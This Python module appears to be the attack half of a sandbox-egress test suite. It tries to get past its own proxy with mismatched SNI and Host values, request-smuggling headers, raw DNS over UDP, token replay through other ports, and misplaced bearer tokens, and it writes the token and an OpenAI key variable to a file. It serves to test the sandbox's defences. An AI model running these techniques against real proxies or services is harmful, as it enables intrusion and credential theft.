"""Groups K and L: the way out of a box as a program in it sees it. Arguments say where to, so that nothing of ours is in it.

What arrived anywhere is told by who listens there; what is said here is what came back: `done` is an answer of the server that
was meant. Must never be given a secret: a box has none.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path

from ringfence.prove.attacks.trying import Outcomes, Place, attempt, each

SECONDS = 10.0
VARIABLE = "PROVE_TOKEN"  # that holds the placeholder
HELD = "/home/user/.held"  # what a command that waits has been given, for who wants to steal it
ARRIVED = b"x-prove"  # a field of every answer of the server that is meant
MAX_ANSWER = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Refused(Exception):
    """What came instead of the server's answer."""


def placeholder() -> str:
    return os.environ[VARIABLE]


def own_port() -> int:
    return int(os.environ["HTTPS_PROXY"].rpartition(":")[2])


# --- one request ------------------------------------------------------------------------------------------------------


def plain(port: int = 0) -> socket.socket:
    """To the command's own proxy."""
    return socket.create_connection(("127.0.0.1", port or own_port()), SECONDS)


def read_answer(wire: socket.socket) -> tuple[bytes, bytes]:
    """(head, body) of one answer, or what there is of it."""
    data = b""
    while b"\r\n\r\n" not in data and len(data) < MAX_ANSWER:
        piece = wire.recv(65536)
        if not piece:
            break
        data += piece
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(field(head, b"content-length") or b"0")
    while len(body) < min(length, MAX_ANSWER):
        piece = wire.recv(65536)
        if not piece:
            break
        body += piece
    return head, body


def field(head: bytes, name: bytes) -> bytes:
    for line in head.split(b"\r\n")[1:]:
        found, _, value = line.partition(b":")
        if found.strip().lower() == name:
            return value.strip()
    return b""


def arrived(head: bytes) -> None:
    """Refused: it is not the server's."""
    if field(head, ARRIVED):
        return
    words = head.split(b"\r\n")[0].split(b" ")
    status = words[1].decode(errors="replace") if len(words) > 1 else "no answer"
    raise Refused(f"{status} {field(head, b'x-egress-reason').decode(errors='replace')}".strip())


def connected(authority: str, port: int = 0) -> socket.socket:
    """By CONNECT. Refused."""
    wire = plain(port)
    wire.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("utf-8", "surrogateescape"))
    head, _ = read_answer(wire)
    if b" 200 " not in head.split(b"\r\n")[0] + b" ":
        wire.close()
        arrived(head)
        raise Refused("no tunnel")
    return wire


def secured(wire: socket.socket, name: str, protocols: tuple[str, ...] = ("http/1.1",)) -> ssl.SSLSocket:
    """An attacker believes every certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(wire, server_hostname=name)


def tunnel(host: str, name: str = "", port: int = 0, proxy: int = 0) -> ssl.SSLSocket:
    return secured(connected(f"{host}:{port or 443}", proxy), name or host)


def asked(wire: socket.socket, raw: bytes) -> tuple[bytes, bytes]:
    """Sent as it is. Refused."""
    with wire:
        wire.settimeout(SECONDS)
        wire.sendall(raw)
        head, body = read_answer(wire)
    arrived(head)
    return head, body


def request(host: str, path: str = "/", method: str = "GET", body: bytes = b"", **fields: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in fields.items()]
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogateescape") + body


def _get(host: str, path: str = "/", method: str = "GET", body: bytes = b"", **fields: str) -> None:
    asked(tunnel(host), request(host, path, method, body, **fields))


def _transparent(host: str, name: str, said: str, path: str = "/", bearer: str = "") -> None:
    """Through the namespace's redirection; nothing of the environment is asked."""
    asked(
        secured(socket.create_connection((host, 443), SECONDS), name),
        request(said, path, Authorization=bearer or "none"),
    )


# --- where to (L01, L02, L03) -----------------------------------------------------------------------------------------


def named(place: Place) -> Outcomes:
    """Arguments: HOST[:PORT] each, as an attacker writes them."""
    return {repr(word): attempt(partial(_named, word)) for word in place.arguments}


def _named(word: str) -> None:
    host, colon, port = word.rpartition(":")
    authority = word if colon and port.isdigit() else f"{word}:443"
    name = "".join(c for c in (host if authority == word else word) if c.isalnum() or c in ".-").strip(".") or "x"
    asked(secured(connected(authority), name), request(authority.removesuffix(":443")))


def reached(place: Place) -> Outcomes:
    """Arguments: a host. What an honest program does there: the control."""
    host = place.arguments[0]
    return each(explicit=lambda: _get(host), transparent=lambda: _transparent(host, host, host))


def mismatched(place: Place) -> Outcomes:
    """Arguments: a host that is allowed, one that is not."""
    good, bad = place.arguments
    return each(
        another_port=lambda: asked(tunnel(good, port=22), request(good)),
        sni_and_host_of_another=lambda: asked(tunnel(good, bad), request(bad)),
        sni_of_another=lambda: asked(tunnel(good, bad), request(good)),
        host_of_another=lambda: asked(tunnel(good), request(bad)),
        target_of_another=lambda: asked(tunnel(good), request(good, f"https://{bad}/")),
        connect_in_connect=lambda: asked(tunnel(good), request(good, f"{bad}:443", "CONNECT")),
        transparent_host_of_another=lambda: _transparent(good, good, bad),
        transparent_sni_of_another=lambda: _transparent(good, bad, good),
        h2_without_asking=lambda: asked(tunnel(good), PREFACE),
        h2_by_alpn=lambda: asked(secured(connected(f"{good}:443"), good, ("h2",)), PREFACE),
    )


def smuggled(place: Place) -> Outcomes:
    """Arguments: the host, a path that nobody may come by."""
    host, path = place.arguments
    inner = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    chunked = b"0\r\n\r\n" + inner
    heads = {
        "length and chunked": (f"Content-Length: {len(chunked)}\r\nTransfer-Encoding: chunked", chunked),
        "two lengths": (f"Content-Length: 0\r\nContent-Length: {len(inner)}", inner),
        "a list of lengths": (f"Content-Length: 0, {len(inner)}", inner),
        "a length with a sign": ("Content-Length: +0", inner),
        "an unknown coding": ("Transfer-Encoding: xchunked", chunked),
        "chunked twice": ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", chunked),
        "a space before the colon": ("Transfer-Encoding : chunked", chunked),
        "a folded line": ("X-A: 1\r\n Transfer-Encoding: chunked", chunked),
        "a bare newline": ("X-A: 1\nTransfer-Encoding: chunked", chunked),
        "a bare return": ("X-A: 1\rTransfer-Encoding: chunked", chunked),
        "a zero byte": ("X-A: 1\0Transfer-Encoding: chunked", chunked),
    }
    return {name: attempt(partial(_raw, host, fields, body)) for name, (fields, body) in heads.items()}


def _raw(host: str, fields: str, body: bytes) -> None:
    head = f"POST /front HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n\r\n".encode()
    asked(tunnel(host), head + body)


def resolved(place: Place) -> Outcomes:
    """L05. Arguments: names. What the box is told is not what counts: whoever is asked outside says so."""
    found = {name: _said(partial(_looked_up, name)) for name in place.arguments}
    found |= {f"{name} by UDP elsewhere": _said(partial(_by_udp, name, "192.0.2.53")) for name in place.arguments[:1]}
    found |= {f"a request to {name}": _said(partial(_named, name)) for name in place.arguments}
    return found


def _said(work: Callable[[], object]) -> str:
    word = attempt(work)
    return "answered in the box" if word.startswith("done") else word


def _looked_up(name: str) -> None:
    socket.getaddrinfo(name, 443)


def _by_udp(name: str, server: str) -> None:
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.settimeout(2.0)
        wire.sendto(struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1), (server, 53))
        wire.recv(512)


# --- with what (K04, L04, L09, L10) -----------------------------------------------------------------------------------


def used(place: Place) -> Outcomes:
    """Arguments: the host, a path. The placeholder as it is meant."""
    host, path = place.arguments
    return each(used=lambda: _get(host, path, Authorization=f"Bearer {placeholder()}"))


def echoed(place: Place) -> Outcomes:
    """The same, and all that came back, as hexadecimal digits."""
    host, path = place.arguments
    head, body = asked(tunnel(host), request(host, path, Authorization=f"Bearer {placeholder()}"))
    return {"head": head.hex(), "body": body.hex()}


def misused(place: Place) -> Outcomes:
    """L04. Arguments: its host, a path there; another host that is allowed; a path that redirects to that."""
    host, path, other, moved = place.arguments
    token = placeholder()
    bearer = f"Bearer {token}"
    return each(
        another_host=lambda: _get(other, path, Authorization=bearer),
        another_path=lambda: _get(host, "/elsewhere", Authorization=bearer),
        another_method=lambda: _get(host, path, "PUT", Authorization=bearer),
        another_header=lambda: _get(host, path, X_Api_Key=token),
        another_scheme=lambda: _get(host, path, Authorization=f"token {token}"),
        part_of_a_value=lambda: _get(host, path, Authorization=f"Bearer x{token}"),
        in_the_path=lambda: _get(host, f"{path}/{token}"),
        in_the_query=lambda: _get(host, f"{path}?q={token}"),
        in_the_body=lambda: _get(host, path, "POST", token.encode()),
        in_the_clear=lambda: asked(plain(), request(host, f"http://{host}{path}", Authorization=bearer)),
        after_a_redirect=lambda: _followed(host, moved, other, bearer),
    )


def _followed(host: str, moved: str, other: str, bearer: str) -> None:
    asked(tunnel(host), request(host, moved, Authorization=bearer))
    _get(other, "/taken", Authorization=bearer)


def stolen(place: Place) -> Outcomes:
    """Arguments: the host, a path; placeholders of others. By the own proxy, and by the way that names no command."""
    host, path, *tokens = place.arguments
    found: Outcomes = {}
    for number, token in enumerate(tokens, 1):
        bearer = f"Bearer {token}"
        found[f"{number}: own proxy"] = attempt(partial(_get, host, path, Authorization=bearer))
        found[f"{number}: transparent"] = attempt(partial(_transparent, host, host, host, path, bearer))
    return found


def told(place: Place) -> Outcomes:
    """What this command was given; it ends at once, and with it what it was given."""
    return {"token": placeholder(), "port": str(own_port())}


def hold(place: Place) -> Outcomes:
    """Arguments: seconds; a file; a host and a path that answers late, or nothing. Says in the file what it was given, and lives
    on until that is taken away or the answer is there."""
    until, held = time.monotonic() + float(place.arguments[0]), Path(place.arguments[1])
    wire = None
    if len(place.arguments) > 2:
        host, path = place.arguments[2:]
        wire = tunnel(host)
        wire.sendall(request(host, path, Authorization=f"Bearer {placeholder()}"))
    told = {"token": placeholder(), "port": own_port(), "model": os.environ.get("OPENAI_API_KEY", "")}
    fresh = held.with_suffix(".new")
    fresh.write_text(json.dumps(told))
    fresh.rename(held)
    if wire is not None:
        with wire:
            wire.settimeout(max(1.0, until - time.monotonic()))
            return each(answer=lambda: arrived(read_answer(wire)[0]))
    while held.exists() and time.monotonic() < until:
        time.sleep(0.05)
    return {"held": "over"}


# --- the wires themselves (L06, L07, L08) -----------------------------------------------------------------------------


def by_port(place: Place) -> Outcomes:
    """L06. Arguments: the host, ports of another's commands. The own one leads out, as it must."""
    host, *ports = place.arguments
    return {port: attempt(partial(_by_port, host, int(port))) for port in ports if int(port) != own_port()}


def _by_port(host: str, port: int) -> None:
    asked(tunnel(host, proxy=port), request(host))


def upload(place: Place) -> Outcomes:
    """L08. Arguments: the host, a path, bytes."""
    host, path, size = place.arguments
    wire = tunnel(host)
    wire.settimeout(SECONDS)

    def sent() -> None:
        with wire:
            wire.sendall(
                request(host, path, "POST")[:-4].replace(b"Content-Length: 0", b"Content-Length: " + size.encode())
            )
            wire.sendall(b"\r\n\r\n")
            try:
                for _ in range(int(size) >> 16):
                    wire.sendall(b"x" * 65536)
            except OSError:  # it was cut: what was said before tells why
                pass
            arrived(read_answer(wire)[0])

    return {f"{int(size) >> 20} MiB": attempt(sent)}


ATTACKS = {
    "named": named,
    "reached": reached,
    "mismatched": mismatched,
    "smuggled": smuggled,
    "resolved": resolved,
    "used": used,
    "echoed": echoed,
    "misused": misused,
    "stolen": stolen,
    "told": told,
    "hold": hold,
    "by_port": by_port,
    "upload": upload,
}
